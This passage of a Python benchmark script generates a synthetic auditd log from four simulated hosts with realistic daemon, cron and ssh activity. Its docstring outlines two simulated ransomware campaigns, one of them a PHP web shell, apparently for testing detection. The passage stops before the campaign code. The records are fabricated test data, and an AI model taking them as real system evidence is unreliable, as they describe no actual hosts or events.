#!/usr/bin/env python3
"""Writes an audit log of about SIZE_MB megabytes as a central auditd receives it from four busy hosts
(audisp-remote: every record prefixed with node=), in log_format=ENRICHED, shaped unlike
bench/gen-ransom-audit-log.py on every axis the import cares about:

- ENRICHED: records auditd can interpret end in 0x1d and the uppercase translations (ARCH=x86_64
  SYSCALL=openat AUID="unset" UID="m.keller" ..., OUID="root" OGID="users" on PATH records);
- names hex-encoded the way the kernel does it (any byte <= 0x20, '"' or >= 0x7f): file names with spaces or
  umlauts, an executable under a directory with a space, proctitles and EXECVE arguments with spaces;
- sparse: about 1,500 records (300 events) a second over a long span (the first generator: several thousand);
- a new process for about every seventh event (~140 k pids per million events) and no exit_group records (the
  rules do not audit exits), so nothing ever tells the importer that a process is gone;
- long-running daemons doing most of the writing: smbd (one child per client connection, forked without an
  exec), php-fpm workers, postgres (WAL segments recycled by rename), systemd, a monitoring agent, a Jenkins
  agent building C code (gcc -> cc1 -> as: most of the execs);
- logins via sshd and cron: PAM records (USER_ACCT, CRED_ACQ, USER_START, USER_LOGIN, USER_END, CRED_DISP),
  the kernel's LOGIN record with the SYSCALL that wrote /proc/self/loginuid, auid and ses changing;
- four node= hosts whose records interleave (each with its own serials and pids), and an event's last record
  now and then arriving after the next event's first record, as auditd writes them from several CPUs;
- two campaigns: on fs01 an account logged in over ssh, sudo, a downloaded binary under "/dev/shm/.X11 unix/"
  that forks four workers encrypting the Samba share in place (rename to .crypt8, a note "HOW TO DECRYPT.txt"
  per directory); on web01 a PHP web shell running a shell loop of openssl + rm per file, with an HTML note.

Deterministic: the same SIZE_MB gives the same bytes. Campaigns scale with SIZE_MB.

usage: bench/gen-busy-hosts-enriched-log.py SIZE_MB OUT_FILE
"""
import heapq
import zlib
import random
import sys

GS = "\x1d"
UNSET = 4294967295
ARCH = "c000003e"

USERS = {0: "root", 33: "www-data", 100: "users", 105: "postgres", 110: "zabbix", 111: "jenkins",
         1011: "m.keller", 1012: "t.berger", 1013: "a.schulz", 1014: "j.wagner", 1015: "s.hoffmann",
         1020: "svc-ansible", 120: "ssl-cert"}
SYSCALLS = {1: "write", 59: "execve", 82: "rename", 87: "unlink", 257: "openat", 263: "unlinkat",
            264: "renameat", 268: "fchmodat", 316: "renameat2"}


def uname(uid):
    return "unset" if uid == UNSET else USERS.get(uid, str(uid))


def enc(s):
    """A string as the kernel logs it: quoted when plain, hex when it holds a space, quote, control or non-ASCII."""
    b = s.encode()
    if any(c <= 0x20 or c == 0x22 or c >= 0x7f for c in b):
        return b.hex().upper()
    return '"' + s + '"'


def hexs(s):
    return s.encode().hex().upper()


class Proc:
    """A process as the kernel reports it in a SYSCALL record."""
    __slots__ = ("pid", "ppid", "exe", "comm", "uid", "gid", "euid", "suid", "auid", "ses", "cwd", "title", "tty")

    def __init__(self, pid, ppid, exe, comm, uid, gid, auid=UNSET, ses=UNSET, cwd="/", title=None, euid=None,
                 suid=None, tty="(none)"):
        self.pid, self.ppid, self.exe, self.comm = pid, ppid, exe, comm
        self.uid, self.gid, self.auid, self.ses = uid, gid, auid, ses
        self.euid = uid if euid is None else euid
        self.suid = self.euid if suid is None else suid
        self.cwd, self.tty = cwd, tty
        self.title = title if title is not None else exe

    def child(self, pid, exe=None, comm=None, title=None, uid=None, gid=None, cwd=None):
        """fork (and exec when exe is given): same login uid and session, new pid."""
        return Proc(pid, self.pid, exe or self.exe, comm or self.comm, self.uid if uid is None else uid,
                    self.gid if gid is None else gid, self.auid, self.ses, cwd or self.cwd,
                    title if title is not None else (self.title if exe is None else exe), tty=self.tty)


class Host:
    """One node: its serial counter, pid counter, sessions and the text of its ENRICHED suffixes."""

    def __init__(self, name, subj, first_pid, serial):
        self.name = name
        self.subj = subj  # " subj=unconfined" on the Ubuntu hosts, "" on the Debian ones (no LSM label)
        self.next_pid = first_pid
        self.serial = serial
        self.ses = 900 + (first_pid % 500)
        self._cred = {}
        self.pids = 0

    def pid(self, rnd):
        self.pids += 1
        self.next_pid += 1 + (rnd.random() < 0.35) * rnd.randrange(1, 6)  # threads and forks that never exec
        if self.next_pid >= 4194304:
            self.next_pid = 300
        return self.next_pid

    def session(self):
        self.ses += 1
        return self.ses

    def syscall(self, nr, success, exitv, a0, a1, a2, a3, items, p, key):
        k = (p.auid, p.uid, p.gid, p.euid, p.suid)
        cred = self._cred.get(k)
        if cred is None:
            cred = (f' AUID="{uname(p.auid)}" UID="{uname(p.uid)}" GID="{uname(p.gid)}" EUID="{uname(p.euid)}"'
                    f' SUID="{uname(p.suid)}" FSUID="{uname(p.euid)}" EGID="{uname(p.gid)}" SGID="{uname(p.gid)}"'
                    f' FSGID="{uname(p.gid)}"')
            self._cred[k] = cred
        ses = p.ses
        return ("SYSCALL",
                f"arch={ARCH} syscall={nr} success={'yes' if success else 'no'} exit={exitv} a0={a0} a1={a1} "
                f"a2={a2} a3={a3} items={items} ppid={p.ppid} pid={p.pid} auid={p.auid} uid={p.uid} gid={p.gid} "
                f"euid={p.euid} suid={p.suid} fsuid={p.euid} egid={p.gid} sgid={p.gid} fsgid={p.gid} tty={p.tty} "
                f"ses={ses} comm={enc(p.comm)} exe={enc(p.exe)}{self.subj} key={key}"
                f"{GS}ARCH=x86_64 SYSCALL={SYSCALLS[nr]}{cred}")

    def user_msg(self, typ, p, auid, ses, msg, extra=""):
        return (typ, f"pid={p.pid} uid={p.uid} auid={auid} ses={ses}{self.subj} msg='{msg}'"
                     f"{GS}UID=\"{uname(p.uid)}\" AUID=\"{uname(auid)}\"{extra}")


def cwd_rec(cwd):
    return "CWD", f"cwd={enc(cwd)}"


def path_rec(item, name, inode, mode, ouid, ogid, nametype, dev="fd:01"):
    return ("PATH", f"item={item} name={enc(name)} inode={inode} dev={dev} mode={mode} ouid={ouid} ogid={ogid} "
                    f"rdev=00:00 nametype={nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
                    f"{GS}OUID=\"{uname(ouid)}\" OGID=\"{uname(ogid)}\"")


def title_rec(title):
    # the kernel logs the command line with NULs between arguments: hex whenever there is more than one
    return "PROCTITLE", f"proctitle={enc(title) if chr(0) not in title else hexs(title)}"


def argv_title(argv):
    return "\0".join(argv)


def parent_of(path):
    i = path.rstrip("/").rfind("/")
    return path[:i + 1] if i > 0 else "/"


class Writer:
    """Turns the events of all hosts, merged by time, into lines; counts bytes."""

    def __init__(self, out, rnd):
        self.out = out
        self.rnd = rnd
        self.buf = []
        self.bytes = 0
        self.events = 0
        self.records = 0
        self.late = None  # (host, line) of a record that auditd wrote after the next event's first record

    def event(self, host, t, records):
        host.serial += 1
        head = f"node={host.name} type="
        stamp = f" msg=audit({t:.3f}:{host.serial}): "
        lines = [head + typ + stamp + body + "\n" for typ, body in records]
        held = None
        if len(lines) > 2 and self.rnd.random() < 0.02:
            held = lines.pop()
        if self.late is not None:
            lines.insert(1, self.late)
            self.late = None
        self.late = held
        for line in lines:
            self.buf.append(line)
            self.bytes += len(line)
        self.events += 1
        self.records += len(records)
        if len(self.buf) > 4096:
            self.flush()

    def flush(self):
        if self.late is not None:
            self.buf.append(self.late)
            self.bytes += len(self.late)
            self.late = None
        self.out.write("".join(self.buf))
        self.buf = []


# ------------------------------------------------------------------------------------------------ file names

DEPTS = ["Finanzen", "Personal", "Projekte", "Vertrieb", "Einkauf", "Scans", "Vorlagen", "Geschäftsleitung"]
SUBS = ["2024", "2025", "2026", "Angebote", "Rechnungen", "Kunde Müller GmbH", "Kunde Bauer & Söhne",
        "Protokolle", "Verträge", "Archiv alt", "Q1", "Q2", "Q3", "Q4"]
STEMS = ["Angebot", "Rechnung", "Protokoll Sitzung", "Präsentation", "Budget", "Vertrag", "Lieferschein",
         "Kalkulation", "scan", "Notizen", "Übersicht Kunden", "Reisekosten", "Projektplan"]
EXTS = [".docx", ".xlsx", ".pdf", ".pptx", ".odt", ".jpg", ".txt", ".csv"]


def share_file(rnd, n):
    d = DEPTS[n % len(DEPTS)]
    s = SUBS[(n // 7) % len(SUBS)]
    stem = STEMS[(n // 3) % len(STEMS)]
    sep = " " if n % 3 else "_"
    return f"{d}/{s}/{stem}{sep}{n:06d}{EXTS[n % len(EXTS)]}"


# ------------------------------------------------------------------------------------------------ activities
# Each activity is a generator of (seconds after the previous event, host, records).

def smbd_sessions(host, rnd, t0, rate):
    """Samba: one smbd child per client connection (forked, never exec'd), users saving documents the way
    office suites do: a temporary file, the old version renamed aside, the new one renamed in, the old one
    deleted. Paths are relative to the share root (the child's cwd)."""
    parent = Proc(1187, 1, "/usr/sbin/smbd", "smbd", 0, 0, title="/usr/sbin/smbd\0--foreground\0--no-process-group")
    clients = []
    share = "/srv/samba/daten"
    while True:
        if len(clients) < 150 or rnd.random() < 0.01:
            uid = rnd.choice([1011, 1012, 1013, 1014, 1015])
            c = parent.child(host.pid(rnd), uid=uid, gid=100, cwd=share)
            c.suid = 0
            # what the user works on during this connection: a few documents, saved again and again
            clients.append((c, [rnd.randrange(60000) for _ in range(rnd.randrange(3, 25))]))
            if len(clients) > 150:
                clients.pop(rnd.randrange(len(clients)))  # disconnected; its smbd child exits (not audited)
        c, working = rnd.choice(clients)
        n = rnd.choice(working) if rnd.random() < 0.9 else rnd.randrange(60000)
        f = share_file(rnd, n)
        d = parent_of(f)
        ino = 5_000_000 + n
        r = rnd.random()
        if r < 0.55:  # a save: write the file in place
            yield (rnd.expovariate(rate), host, [
                host.syscall(257, True, rnd.randrange(30, 60), "ffffff9c", f"55d1c2{n:06x}", "42", "1a4", 1, c,
                             '"fs_write"'),
                cwd_rec(share), path_rec(0, f, ino, "0100664", c.uid, 100, "NORMAL", "fd:10"),
                title_rec(parent.title)])
        elif r < 0.85:  # office save: ~$ lock file, temp file, renames
            tmp = f"{d}~WRL{n % 10000:04d}.tmp"
            yield (rnd.expovariate(rate), host, [
                host.syscall(257, True, 41, "ffffff9c", f"55d1c3{n:06x}", "c2", "1a4", 2, c, '"fs_write"'),
                cwd_rec(share), path_rec(0, d, 4_000_000 + n % 997, "042775", 0, 100, "PARENT", "fd:10"),
                path_rec(1, tmp, ino + 1_000_000, "0100664", c.uid, 100, "CREATE", "fd:10"),
                title_rec(parent.title)])
            yield (rnd.expovariate(rate * 4), host, [
                host.syscall(82, True, 0, f"55d1c4{n:06x}", f"55d1c5{n:06x}", "0", "0", 4, c, '"fs_rename"'),
                cwd_rec(share),
                path_rec(0, d, 4_000_000 + n % 997, "042775", 0, 100, "PARENT", "fd:10"),
                path_rec(1, d, 4_000_000 + n % 997, "042775", 0, 100, "PARENT", "fd:10"),
                path_rec(2, tmp, ino + 1_000_000, "0100664", c.uid, 100, "DELETE", "fd:10"),
                path_rec(3, f, ino, "0100664", c.uid, 100, "CREATE", "fd:10"),
                title_rec(parent.title)])
        elif r < 0.95:  # a new document
            yield (rnd.expovariate(rate), host, [
                host.syscall(257, True, 38, "ffffff9c", f"55d1c6{n:06x}", "c2", "1b4", 2, c, '"fs_write"'),
                cwd_rec(share), path_rec(0, d, 4_000_000 + n % 997, "042775", 0, 100, "PARENT", "fd:10"),
                path_rec(1, f, ino, "0100664", c.uid, 100, "CREATE", "fd:10"), title_rec(parent.title)])
        else:  # deleted
            yield (rnd.expovariate(rate), host, [
                host.syscall(263, True, 0, "ffffff9c", f"55d1c7{n:06x}", "0", "0", 2, c, '"fs_delete"'),
                cwd_rec(share), path_rec(0, d, 4_000_000 + n % 997, "042775", 0, 100, "PARENT", "fd:10"),
                path_rec(1, f, ino, "0100664", c.uid, 100, "DELETE", "fd:10"), title_rec(parent.title)])


def php_fpm(host, rnd, t0, rate):
    """php-fpm workers (www-data) writing sessions, a Symfony cache (temp file + rename) and uploads;
    a worker is replaced after pm.max_requests (a fork of the master, no exec)."""
    master = Proc(702, 1, "/usr/sbin/php-fpm8.2", "php-fpm8.2", 0, 0,
                  title="php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)")
    workers = [master.child(host.pid(rnd), uid=33, gid=33, title="php-fpm: pool www", cwd="/") for _ in range(12)]
    served = 0
    while True:
        served += 1
        if served % 500 == 0:
            workers[rnd.randrange(len(workers))] = master.child(host.pid(rnd), uid=33, gid=33,
                                                                 title="php-fpm: pool www", cwd="/")
        w = rnd.choice(workers)
        r = rnd.random()
        n = rnd.randrange(1 << 30)
        if r < 0.5:
            f = f"/var/lib/php/sessions/sess_{n:026x}"[:49]
            yield (rnd.expovariate(rate), host, [
                host.syscall(257, True, 9, "ffffff9c", f"7f3a1b{n % 0xffffff:06x}", "42", "180", 1, w, '"web_write"'),
                cwd_rec("/"), path_rec(0, f, 2_000_000 + n % 90000, "0100600", 33, 33, "NORMAL", "fd:01"),
                title_rec(w.title)])
        elif r < 0.85:
            d = f"/var/www/shop/var/cache/prod/pools/app/{n % 26 + 65:c}/{(n >> 5) % 26 + 65:c}/"
            tmp = f"{d}{n:x}.{n % 99991}.tmp"
            f = f"{d}{n:x}"
            yield (rnd.expovariate(rate), host, [
                host.syscall(257, True, 11, "ffffff9c", f"7f3a1c{n % 0xffffff:06x}", "c1", "1a4", 2, w, '"web_write"'),
                cwd_rec("/var/www/shop/public"), path_rec(0, d, 3_100_000 + n % 676, "040775", 33, 33, "PARENT"),
                path_rec(1, tmp, 3_200_000 + n % 200000, "0100664", 33, 33, "CREATE"), title_rec(w.title)])
            yield (rnd.expovariate(rate * 5), host, [
                host.syscall(82, True, 0, f"7f3a1d{n % 0xffffff:06x}", f"7f3a1e{n % 0xffffff:06x}", "0", "0", 4, w,
                             '"web_write"'),
                cwd_rec("/var/www/shop/public"),
                path_rec(0, d, 3_100_000 + n % 676, "040775", 33, 33, "PARENT"),
                path_rec(1, d, 3_100_000 + n % 676, "040775", 33, 33, "PARENT"),
                path_rec(2, tmp, 3_200_000 + n % 200000, "0100664", 33, 33, "DELETE"),
                path_rec(3, f, 3_300_000 + n % 200000, "0100664", 33, 33, "CREATE"), title_rec(w.title)])
        else:
            name = f"/var/www/shop/public/media/catalog/product/{n % 10}/{(n >> 4) % 10}/" \
                   f"{['Sommerkleid rot', 'Tasche', 'Schuh Größe 42', 'IMG'][n % 4]} {n % 9999}.jpg"
            yield (rnd.expovariate(rate), host, [
                host.syscall(257, True, 12, "ffffff9c", f"7f3a1f{n % 0xffffff:06x}", "241", "1a4", 2, w,
                             '"web_write"'),
                cwd_rec("/var/www/shop/public"),
                path_rec(0, parent_of(name), 3_400_000 + n % 100, "040775", 33, 33, "PARENT"),
                path_rec(1, name, 3_500_000 + n % 300000, "0100664", 33, 33, "CREATE"), title_rec(w.title)])


def postgres(host, rnd, t0, rate):
    """The checkpointer and walwriter recycling WAL segments by rename, and the stats file written aside
    and renamed in: a benign stream of renames by a long-running daemon."""
    ckpt = Proc(851, 812, "/usr/lib/postgresql/15/bin/postgres", "postgres", 105, 105, cwd="/var/lib/postgresql/15/main",
                title="postgres: 15/main: checkpointer ")
    wal = Proc(853, 812, "/usr/lib/postgresql/15/bin/postgres", "postgres", 105, 105, cwd="/var/lib/postgresql/15/main",
               title="postgres: 15/main: walwriter ")
    seg = 0x0A000000F3
    while True:
        seg += 1
        old = f"pg_wal/{0x000000010000000000000000 + seg - 64:024X}"
        new = f"pg_wal/{0x000000010000000000000000 + seg:024X}"
        yield (rnd.expovariate(rate), host, [
            host.syscall(82, True, 0, "5601a2b3c4d0", "5601a2b3c5e0", "0", "0", 4, ckpt, '"db_files"'),
            cwd_rec(ckpt.cwd), path_rec(0, "pg_wal/", 1_310_721, "040700", 105, 105, "PARENT", "fd:20"),
            path_rec(1, "pg_wal/", 1_310_721, "040700", 105, 105, "PARENT", "fd:20"),
            path_rec(2, old, 1_400_000 + seg % 64, "0100600", 105, 105, "DELETE", "fd:20"),
            path_rec(3, new, 1_400_000 + seg % 64, "0100600", 105, 105, "CREATE", "fd:20"), title_rec(ckpt.title)])
        for _ in range(rnd.randrange(2, 6)):
            yield (rnd.expovariate(rate), host, [
                host.syscall(257, True, 17, "ffffff9c", "5601a2b3c6f0", "80042", "180", 1, wal, '"db_files"'),
                cwd_rec(wal.cwd), path_rec(0, new, 1_400_000 + seg % 64, "0100600", 105, 105, "NORMAL", "fd:20"),
                title_rec(wal.title)])


def monitoring(host, rnd, t0, rate, checks):
    """zabbix_agent2 running its UserParameters: sh -c CMD, then the command (two new pids a check)."""
    agent = Proc(655, 1, "/usr/sbin/zabbix_agent2", "zabbix_agent2", 110, 110,
                 title="/usr/sbin/zabbix_agent2\0-c\0/etc/zabbix/zabbix_agent2.conf")
    while True:
        argv = rnd.choice(checks)
        sh = agent.child(host.pid(rnd), exe="/usr/bin/dash", comm="sh", title=argv_title(["sh", "-c", " ".join(argv)]))
        yield (rnd.expovariate(rate), host, exec_records(host, sh, ["sh", "-c", " ".join(argv)], "/usr/bin/dash"))
        cmd = sh.child(host.pid(rnd), exe=argv[0], comm=argv[0].rsplit("/", 1)[-1][:15], title=argv_title(argv))
        yield (0.002 + rnd.random() * 0.004, host, exec_records(host, cmd, argv, argv[0]))


def exec_records(host, p, argv, path, success=True, interp=True):
    """SYSCALL execve + EXECVE + CWD + PATH (the program, the loader) + PROCTITLE."""
    args = " ".join(f"a{i}={enc(a)}" for i, a in enumerate(argv))
    recs = [host.syscall(59, success, 0 if success else -2, "55a0c1d2e3f0", "55a0c1d2e500", "55a0c1d2e610", "0",
                         2 if interp else 1, p, '"exec"'),
            ("EXECVE", f"argc={len(argv)} {args}"), cwd_rec(p.cwd),
            path_rec(0, path, 260000 + (zlib.crc32(path.encode()) & 0xffff), "0100755", 0, 0, "NORMAL")]
    if interp:
        recs.append(path_rec(1, "/lib64/ld-linux-x86-64.so.2", 338944, "0100755", 0, 0, "NORMAL"))
    recs.append(title_rec(argv_title(argv)))
    return recs


def jenkins_builds(host, rnd, t0, rate):
    """A Jenkins agent building a C project now and then: make runs gcc per file, gcc runs cc1 and as; cc1
    writes a temporary assembly file that gcc deletes, as writes the object. Most of the log's execs."""
    agent = Proc(1402, 1, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java", 111, 111, cwd="/var/lib/jenkins",
                 title="java\0-jar\0/usr/share/java/agent.jar\0-jnlpUrl\0https://ci.branch.example/computer/ci01/jenkins-agent.jnlp")
    build = 0
    while True:
        build += 1
        ws = f"/var/lib/jenkins/workspace/firmware-tools {['main', 'release 2.4', 'feature-x'][build % 3]}"
        sh = agent.child(host.pid(rnd), exe="/usr/bin/dash", comm="sh", cwd=ws,
                         title=argv_title(["/bin/sh", "-xe", f"/tmp/jenkins{build}.sh"]))
        yield (rnd.expovariate(rate / 2800), host, exec_records(host, sh, ["/bin/sh", "-xe", f"/tmp/jenkins{build}.sh"], "/bin/sh"))
        make = sh.child(host.pid(rnd), exe="/usr/bin/make", comm="make", title="make\0-j2")
        yield (0.01, host, exec_records(host, make, ["make", "-j2"], "/usr/bin/make"))
        for i in range(rnd.randrange(250, 500)):
            src = f"src/module{i // 40}/unit_{i:03d}.c"
            obj = f"build/module{i // 40}/unit_{i:03d}.o"
            argv = ["gcc", "-O2", "-g", "-Wall", "-Iinclude", "-c", src, "-o", obj]
            gcc = make.child(host.pid(rnd), exe="/usr/bin/x86_64-linux-gnu-gcc-12", comm="gcc", title=argv_title(argv))
            yield (rnd.expovariate(rate), host, exec_records(host, gcc, argv, "/usr/bin/gcc"))
            tmp = f"/tmp/cc{rnd.randrange(1 << 30):08x}.s"
            cc1 = gcc.child(host.pid(rnd), exe="/usr/lib/gcc/x86_64-linux-gnu/12/cc1", comm="cc1",
                            title=argv_title(["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "-Iinclude", src,
                                              "-quiet", "-dumpbase", src.rsplit("/", 1)[1], "-O2", "-Wall", "-o", tmp]))
            yield (0.003, host, exec_records(host, cc1, ["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "-Iinclude",
                                                         src, "-O2", "-Wall", "-o", tmp],
                                             "/usr/lib/gcc/x86_64-linux-gnu/12/cc1"))
            yield (rnd.expovariate(rate), host, [
                host.syscall(257, True, 3, "ffffff9c", "7ffc2a1b3000", "241", "1b6", 2, cc1, '"tmp_write"'),
                cwd_rec(ws), path_rec(0, "/tmp/", 2, "041777", 0, 0, "PARENT"),
                path_rec(1, tmp, 9_000_000 + i, "0100644", 111, 111, "CREATE"), title_rec(cc1.title)])
            as_ = gcc.child(host.pid(rnd), exe="/usr/bin/x86_64-linux-gnu-as", comm="as",
                            title=argv_title(["as", "--64", "-o", obj, tmp]))
            yield (0.002, host, exec_records(host, as_, ["as", "--64", "-o", obj, tmp], "/usr/bin/as"))
            yield (0.004, host, [
                host.syscall(257, True, 3, "ffffff9c", "7ffc2a1b4000", "241", "1b6", 2, as_, '"fs_write"'),
                cwd_rec(ws), path_rec(0, f"{ws}/build/module{i // 40}/", 8_000_000 + i // 40, "040755", 111, 111, "PARENT"),
                path_rec(1, f"{ws}/{obj}", 8_100_000 + i, "0100644", 111, 111, "CREATE"), title_rec(as_.title)])
            yield (0.001, host, [
                host.syscall(87, True, 0, "7ffc2a1b5000", "0", "0", "0", 2, gcc, '"tmp_write"'),
                cwd_rec(ws), path_rec(0, "/tmp/", 2, "041777", 0, 0, "PARENT"),
                path_rec(1, tmp, 9_000_000 + i, "0100644", 111, 111, "DELETE"), title_rec(gcc.title)])


def cron_and_systemd(host, rnd, t0, jobs):
    """Every minute cron forks a child per job: PAM account and credentials, the kernel's LOGIN (auid 0, a new
    session) with the write to loginuid, the PAM session, sh -c JOB and the job itself, then the session closes.
    systemd starts and stops timer units now and then."""
    cron = Proc(641, 1, "/usr/sbin/cron", "cron", 0, 0, title="/usr/sbin/cron\0-f")
    systemd = Proc(1, 0, "/usr/lib/systemd/systemd", "systemd", 0, 0, title="/sbin/init")
    minute = 0
    while True:
        minute += 1
        yield (60.0 - 0.4 * len(jobs), None, None)  # wait for the next minute
        for every, job, writes in jobs:
            if minute % every:
                continue
            child = cron.child(host.pid(rnd), title="/usr/sbin/CRON\0-f")
            pam = "hostname=? addr=? terminal=cron res=success"
            yield (0.001, host, [host.user_msg("USER_ACCT", child, UNSET, UNSET,
                                               f'op=PAM:accounting grantors=pam_permit acct="root" exe="/usr/sbin/cron" {pam}')])
            yield (0.001, host, [host.user_msg("CRED_ACQ", child, UNSET, UNSET,
                                               f'op=PAM:setcred grantors=pam_permit,pam_cap acct="root" exe="/usr/sbin/cron" {pam}')])
            ses = host.session()
            yield (0.001, host, [
                ("LOGIN", f"pid={child.pid} uid=0{host.subj} old-auid={UNSET} auid=0 tty=(none) old-ses={UNSET} "
                          f"ses={ses} res=1{GS}UID=\"root\" OLD-AUID=\"unset\" AUID=\"root\""),
                host.syscall(1, True, 1, "7", "7ffd8c1e2a40", "1", "0", 0, child, "(null)"),
                title_rec(child.title)])
            child.auid, child.ses = 0, ses
            yield (0.001, host, [host.user_msg("USER_START", child, 0, ses,
                                               f'op=PAM:session_open grantors=pam_loginuid,pam_env,pam_env,pam_permit,'
                                               f'pam_unix,pam_limits acct="root" exe="/usr/sbin/cron" {pam}')])
            sh = child.child(host.pid(rnd), exe="/usr/bin/dash", comm="sh", title=argv_title(["/bin/sh", "-c", job[0]]))
            yield (0.002, host, exec_records(host, sh, ["/bin/sh", "-c", job[0]], "/bin/sh"))
            prog = sh.child(host.pid(rnd), exe=job[1][0], comm=job[1][0].rsplit("/", 1)[-1][:15], title=argv_title(job[1]))
            yield (0.003, host, exec_records(host, prog, job[1], job[1][0]))
            for path in writes:
                n = rnd.randrange(1 << 20)
                yield (0.01, host, [
                    host.syscall(257, True, 4, "ffffff9c", "55e0a1b2c3d0", "241", "1a4", 2, prog, '"fs_write"'),
                    cwd_rec("/root"), path_rec(0, parent_of(path), 1_000 + n % 50, "040755", 0, 0, "PARENT"),
                    path_rec(1, path, 100_000 + n, "0100644", 0, 0, "CREATE"), title_rec(prog.title)])
            yield (0.2, host, [host.user_msg("CRED_DISP", child, 0, ses,
                                             f'op=PAM:setcred grantors=pam_permit,pam_cap acct="root" exe="/usr/sbin/cron" {pam}')])
            yield (0.001, host, [host.user_msg("USER_END", child, 0, ses,
                                               f'op=PAM:session_close grantors=pam_loginuid,pam_env,pam_env,pam_permit,'
                                               f'pam_unix,pam_limits acct="root" exe="/usr/sbin/cron" {pam}')])
        if minute % 30 == 0:
            for unit in ("phpsessionclean", "apt-daily", "logrotate", "man-db"):
                yield (0.05, host, [host.user_msg(
                    "SERVICE_START", systemd, UNSET, UNSET,
                    f'unit={unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success')])
                yield (1.5, host, [host.user_msg(
                    "SERVICE_STOP", systemd, UNSET, UNSET,
                    f'unit={unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success')])


def ssh_logins(host, rnd, t0, rate, accounts, commands):
    """sshd logins: the listener forks, the child re-execs sshd, PAM authenticates, the kernel's LOGIN sets the
    login uid and a new session, USER_START and USER_LOGIN, then the account's commands, then logout."""
    listener = Proc(812, 1, "/usr/sbin/sshd", "sshd", 0, 0, title="sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups")
    while True:
        yield (rnd.expovariate(rate), None, None)
        uid, addr = rnd.choice(accounts)
        yield from ssh_session(host, rnd, listener, uid, addr, rnd.choice(commands))


def ssh_session(host, rnd, listener, uid, addr, commands, password=False):
    acct = USERS[uid]
    sshd = listener.child(host.pid(rnd), exe="/usr/sbin/sshd", comm="sshd", title="sshd: [accepted]")
    yield (0.0, host, exec_records(host, sshd, ["/usr/sbin/sshd", "-D", "-R"], "/usr/sbin/sshd"))
    pam = f"hostname={addr} addr={addr} terminal=ssh res=success"
    if password:
        yield (0.8, host, [host.user_msg("USER_AUTH", sshd, UNSET, UNSET,
                                         f'op=PAM:authentication grantors=pam_unix acct="{acct}" exe="/usr/sbin/sshd" {pam}')])
    else:
        yield (0.05, host, [host.user_msg("USER_AUTH", sshd, UNSET, UNSET,
                                          f'op=pubkey_auth grantors=auth-key acct="{acct}" exe="/usr/sbin/sshd" '
                                          f'hostname=? addr={addr} terminal=ssh res=success')])
    yield (0.01, host, [host.user_msg("USER_ACCT", sshd, UNSET, UNSET,
                                      f'op=PAM:accounting grantors=pam_permit acct="{acct}" exe="/usr/sbin/sshd" {pam}')])
    yield (0.002, host, [host.user_msg("CRYPTO_KEY_USER", sshd, UNSET, UNSET,
                                       f'op=destroy kind=session fp=? direction=both spid={sshd.pid + 1} suid=107 '
                                       f'rport={rnd.randrange(32768, 60999)} laddr=10.20.1.10 lport=22  exe="/usr/sbin/sshd" '
                                       f'hostname=? addr={addr} terminal=? res=success')])
    yield (0.002, host, [host.user_msg("CRED_ACQ", sshd, UNSET, UNSET,
                                       f'op=PAM:setcred grantors=pam_permit,pam_unix acct="{acct}" exe="/usr/sbin/sshd" {pam}')])
    ses = host.session()
    yield (0.002, host, [
        ("LOGIN", f"pid={sshd.pid} uid=0{host.subj} old-auid={UNSET} auid={uid} tty=(none) old-ses={UNSET} ses={ses} "
                  f"res=1{GS}UID=\"root\" OLD-AUID=\"unset\" AUID=\"{acct}\""),
        host.syscall(1, True, len(str(uid)), "3", "7ffe1c2b3a40", str(len(str(uid))), "0", 0, sshd, "(null)"),
        title_rec(sshd.title)])
    sshd.auid, sshd.ses = uid, ses
    yield (0.02, host, [host.user_msg("USER_START", sshd, uid, ses,
                                      f'op=PAM:session_open grantors=pam_loginuid,pam_keyinit,pam_permit,pam_umask,'
                                      f'pam_unix,pam_systemd,pam_mail,pam_limits,pam_env,pam_env acct="{acct}" '
                                      f'exe="/usr/sbin/sshd" {pam}')])
    tty = f"/dev/pts/{rnd.randrange(0, 6)}"
    yield (0.05, host, [host.user_msg("USER_LOGIN", sshd, uid, ses,
                                      f'op=login id={uid} exe="/usr/sbin/sshd" hostname={addr} addr={addr} '
                                      f'terminal={tty} res=success', f' ID="{acct}"')])
    home = "/root" if uid == 0 else f"/home/{acct}"
    shell = sshd.child(host.pid(rnd), exe="/usr/bin/bash", comm="bash", uid=uid, gid=100 if uid >= 1000 else uid,
                       cwd=home, title="-bash")
    shell.tty = tty[5:]
    yield (0.05, host, exec_records(host, shell, ["-bash"], "/bin/bash"))
    for argv in commands:
        p = shell.child(host.pid(rnd), exe=argv[0], comm=argv[0].rsplit("/", 1)[-1][:15], title=argv_title(argv))
        yield (rnd.uniform(0.5, 6.0), host, exec_records(host, p, argv, argv[0]))
    yield (rnd.uniform(1, 30), host, [host.user_msg("USER_END", sshd, uid, ses,
                                                     f'op=login id={uid} exe="/usr/sbin/sshd" hostname=? addr=? '
                                                     f'terminal={tty} res=success')])
    yield (0.001, host, [host.user_msg("USER_LOGOUT", sshd, uid, ses,
                                       f'op=login id={uid} exe="/usr/sbin/sshd" hostname=? addr=? terminal={tty} '
                                       f'res=success')])
    yield (0.01, host, [host.user_msg("CRED_DISP", sshd, uid, ses,
                                      f'op=PAM:setcred grantors=pam_permit,pam_unix acct="{acct}" exe="/usr/sbin/sshd" {pam}')])
    yield (0.001, host, [host.user_msg("USER_END", sshd, uid, ses,
                                       f'op=PAM:session_close grantors=pam_loginuid,pam_keyinit,pam_permit,pam_umask,'
                                       f'pam_unix,pam_systemd,pam_mail,pam_limits,pam_env,pam_env acct="{acct}" '
                                       f'exe="/usr/sbin/sshd" {pam}')])


# ------------------------------------------------------------------------------------------------ campaigns

def campaign_share(host, rnd, files):
    """fs01: t.berger logs in from outside with a password, sudo -i, downloads a binary into a directory whose
    name has a space (so the kernel logs its exe in hex), and runs it; it forks four workers that open every
    document of the share read-write, rewrite it and rename it to .crypt8, leaving a note in every directory."""
    listener = Proc(812, 1, "/usr/sbin/sshd", "sshd", 0, 0, title="sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups")
